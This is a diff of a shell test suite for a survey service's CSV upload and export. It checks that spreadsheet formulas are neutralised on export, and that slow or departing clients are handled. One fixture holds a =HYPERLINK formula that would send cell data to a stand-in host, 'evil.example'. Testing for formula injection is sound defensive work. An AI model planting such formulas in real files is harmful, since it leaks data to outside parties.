@@ -52,15 +52,27 @@ for f in onestop-simple:onestop-tt01 sipas2023-weighted:sipas-2023 custom-pooled
 	is "$(upload "$ADMIN" "${f#*:}" "$FIXTURES/${f%%:*}.csv")" 200 "${f%%:*}: uploaded"
 done
 cat >"$tmp/awkward.csv" <<'EOF'
-id,unit,submitted_at,channel,weight,stratum,psu,R1,respondent.gender,respondent.note
+id,unit,submitted_at,channel,weight,stratum,psu,R1,respondent.gender,respondent.residence
 "aw,1",C011,2025-03-01T10:00:00+07:00,web,0.1,"s,1","p""1",3,f,"says ""hi"", then
 leaves"
 aw-2,C012,2025-03-02,kiosk,2.5,,,2,m,=SUM(A1:A9)
-aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,,,plain
+aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,1,,plain
 aw-4,U001,2026-01-01T00:00:00+07:00,paper,0.3333333333333333,,,1,f,
+aw-5,C011,2025-03-03,web,1,,,3,f,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"
+aw-6,C011,2025-03-04,web,1,,,3,m,+1
+aw-7,C011,2025-03-05,web,1,,,3,m,-2
+aw-8,C011,2025-03-06,web,1,,,3,m,@SUM(1)
+aw-9,C011,2025-03-07,web,1,,,3,m,'=already quoted
+aw-10,C011,2025-03-08,web,1,,,3,m,it's -fine
 EOF
 is "$(upload "$ADMIN" onestop-tt01 "$tmp/awkward.csv")" 200 "rows with quotes, commas, a line break and demographics: uploaded"
-is "$(totals)" "4 4 0 0 0" "all 4 stored"
+is "$(totals)" "10 10 0 0 0" "all 10 stored" || jq -c '.errors' "$tmp/body" | head -c 2000 | sed 's/^/# /' >&2
+is "$(sql "SELECT respondent ->> 'note' FROM responses WHERE source_id = 'aw-5'")" '=HYPERLINK("http://evil.example/?x="&A1,"click")' \
+	"a comment that is a formula is stored as the citizen wrote it"
+is "$(sql "SELECT respondent ->> 'note' FROM responses WHERE source_id = 'aw-9'")" "=already quoted" \
+	"a ' before a formula in an uploaded file is taken off (the export's own guard)"
+st=$(post "$ADMIN" '{"id": "aw-11", "survey": "onestop-tt01", "unit": "C011", "submitted_at": "2025-03-09T10:00:00+07:00", "channel": "web", "answers": {"R1": 3}, "respondent": {"gender": "m", "note": "'"'"'=quoted by its writer"}}')
+is "$st" 201 "a comment that starts with '= itself, through the API" || sed 's/^/# /' "$tmp/body" >&2
 
 # --- the same bytes as sipasctl export ------------------------------------------
 # NAME | query | sipasctl arguments
@@ -88,8 +100,19 @@ EOF
 ctl_export "$tmp/ctl.csv" --survey onestop-tt01
 grep -q '^"aw,1",C011,2025-03-01T10:00:00+07:00,web,0.1,"s,1","p""1",3,f,"says ""hi"", then$' "$tmp/ctl.csv"
 tap $? "a field with a comma, a quote or a line break is quoted (RFC 4180)"
-grep -q '^aw-2,C012,2025-03-02T00:00:00+07:00,kiosk,2.5,,,2,m,=SUM(A1:A9)' "$tmp/ctl.csv"
+grep -q '^aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,,,plain' "$tmp/ctl.csv"
 tap $? "other fields are written as they are"
+# Formula injection: text a spreadsheet would run gets a ' in front.
+grep -q "^aw-2,C012,2025-03-02T00:00:00+07:00,kiosk,2.5,,,2,m,'=SUM(A1:A9)" "$tmp/ctl.csv"
+tap $? "=SUM(...) is written '=SUM(...)"
+grep -q "^aw-5,C011,2025-03-03T00:00:00+07:00,web,1,,,3,f,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" "$tmp/ctl.csv"
+tap $? "a =HYPERLINK(...) comment is written '=HYPERLINK(...), quoted"
+grep -q "^aw-6,.*,m,'+1.\$" "$tmp/ctl.csv" && grep -q "^aw-7,.*,m,'-2.\$" "$tmp/ctl.csv" &&
+	grep -q "^aw-8,.*,m,'@SUM(1).\$" "$tmp/ctl.csv" && grep -q "^aw-9,.*,m,'=already quoted.\$" "$tmp/ctl.csv" &&
+	grep -q "^aw-10,.*,m,it's -fine.\$" "$tmp/ctl.csv" && grep -q "^aw-11,.*,m,''=quoted by its writer.\$" "$tmp/ctl.csv"
+tap $? "text starting with +, -, @ gets a ' too; text with a ' or - further on does not"
+grep -q "^aw-7,C011,2025-03-05T00:00:00+07:00,web,1,,,3," "$tmp/ctl.csv"
+tap $? "numbers stay numbers (weight, answers)"
 head -n 1 "$tmp/ctl.csv" | od -c | grep -q '\\r  \\n'
 tap $? "lines end in CRLF"
 export_get "$ADMIN" "survey=onestop-tt01&from=2030-01-01" "$tmp/api.csv" >/dev/null
@@ -165,14 +188,19 @@ big=$(sql "SELECT count(*) FROM responses WHERE survey = 'sipas-2017'")
 ctl_export "$tmp/ctl-big.csv" --survey sipas-2017
 size=$(stat -c %s "$tmp/ctl-big.csv")
 rss() { sed -n 's/^VmRSS:[[:space:]]*\([0-9]*\) kB/\1/p' "/proc/$SIPASD_PID/status"; }
-# A client that sends the request, reads nothing for 4 s, then everything.
+# A client that sends the request and reads nothing until the file GO exists
+# (the test creates it once sipasd's log shows the export waiting for this
+# reader; after 300 s it reads anyway), then reads everything, or one block
+# and leaves.
 cat >"$tmp/slow.py" <<'EOF'
-import socket, sys, time
-host, port, path, token, out, stall, leave = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], float(sys.argv[6]), sys.argv[7] == "1"
+import os, socket, sys, time
+host, port, path, token, out, go, leave = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], sys.argv[6], sys.argv[7] == "1"
 s = socket.create_connection((host, port))
 s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
 s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (path, token)).encode())
-time.sleep(stall)
+deadline = time.monotonic() + 300
+while not os.path.exists(go) and time.monotonic() < deadline:
+    time.sleep(0.05)
 if leave:
     s.recv(65536)
     s.close()
@@ -198,19 +226,23 @@ EOF
 port=${URL##*:}
 base=$(rss)
 echo 5 >"/proc/$SIPASD_PID/clear_refs" 2>/dev/null
-python3 "$tmp/slow.py" 127.0.0.1 "$port" "/api/v1/export?survey=sipas-2017" "$ADMIN" "$tmp/api-big.csv" 4 0 &
+stalled_re='export: [0-9]+ bytes unsent after [0-9]+ rows: waiting for the client to read'
+python3 "$tmp/slow.py" 127.0.0.1 "$port" "/api/v1/export?survey=sipas-2017" "$ADMIN" "$tmp/api-big.csv" "$tmp/go1" 0 &
 slow=$!
-sleep 1.5
+# The reader is stalled once sipasd's log says the export waits for it: the
+# connection holds more than the high water mark unsent. A loaded machine may
+# take long to get there, hence the generous bound.
+wait_log "$stalled_re" 1 120
+tap $? "the export waited for the stalled reader (high water mark) instead of queueing"
 t0=$(date +%s%N)
 is "$(get "$VIEWER" '/api/v1/indices?survey=onestop-tt01&unit=P01')" 200 "while an export waits for its reader, the indices still answer"
 t1=$(date +%s%N)
 tap $(( (t1 - t0) / 1000000 < 1500 ? 0 : 1 )) "and at once ($(( (t1 - t0) / 1000000 )) ms)"
 stalled=$(rss)
+: >"$tmp/go1"
 wait $slow
 cmp -s "$tmp/ctl-big.csv" "$tmp/api-big.csv"
 tap $? "a large export read by a slow client: $big rows, $size bytes, the same bytes as sipasctl export"
-grep -q 'waiting for the client to read' "$SIPASD_LOG"
-tap $? "the export waited for the stalled reader (high water mark) instead of queueing"
 peak=$(hwm)
 if ldd "$SIPASD" 2>/dev/null | grep -q libasan; then
 	tap 0 "# SKIP memory bound: ASan's allocator keeps freed memory"
@@ -218,12 +250,13 @@ else
 	growth=$((peak - base))
 	tap $((growth < 8192 ? 0 : 1)) "sipasd's memory grew by $((growth / 1024)) MiB (peak), at most 8 MiB, for a $((size / 1048576)) MiB export (RSS $((base / 1024)) MiB before, $((stalled / 1024)) MiB while stalled)"
 fi
-python3 "$tmp/slow.py" 127.0.0.1 "$port" "/api/v1/export?survey=sipas-2017" "$ADMIN" /dev/null 1 1
-for i in $(seq 1 50); do
-	grep -q 'export sipas-2017: .* rows (stopped: the client left)' "$SIPASD_LOG" && break
-	sleep 0.2
-done
-grep -q 'export sipas-2017: .* rows (stopped: the client left)' "$SIPASD_LOG"
+n=$(grep -cE "$stalled_re" "$SIPASD_LOG")
+python3 "$tmp/slow.py" 127.0.0.1 "$port" "/api/v1/export?survey=sipas-2017" "$ADMIN" /dev/null "$tmp/go2" 1 &
+slow=$!
+wait_log "$stalled_re" $((n + 1)) 120 || tap 1 "the second export reached the high water mark"
+: >"$tmp/go2"
+wait $slow
+wait_log 'export sipas-2017: .* rows \(stopped: the client left\)' 1 60
 tap $? "a client that leaves in the middle: the export stops"
 is "$(sql "SELECT detail->>'complete' FROM audit_log WHERE action = 'export' ORDER BY id DESC LIMIT 1")" false \
 	"and is audited as incomplete"
@@ -233,7 +266,11 @@ is "$(get "" /healthz)" 200 "sipasd still answers"
 # that looks whole. Last, since PostgreSQL stays down.
 curl -s --limit-rate 1M -o "$tmp/cut.csv" -H "Authorization: Bearer $ADMIN" "$URL/api/v1/export?survey=sipas-2017" &
 cut=$!
-sleep 1.5
+# In the middle: curl has the header row and some rows.
+for i in $(seq 1 600); do
+	[ "$(stat -c %s "$tmp/cut.csv" 2>/dev/null || echo 0)" -gt 65536 ] && break
+	sleep 0.1
+done
 "$PGSH" stop "$PGDIR" >/dev/null 2>&1
 wait $cut
 is $? 18 "PostgreSQL stops in the middle of an export: the transfer is incomplete (curl exit 18: no last chunk)"
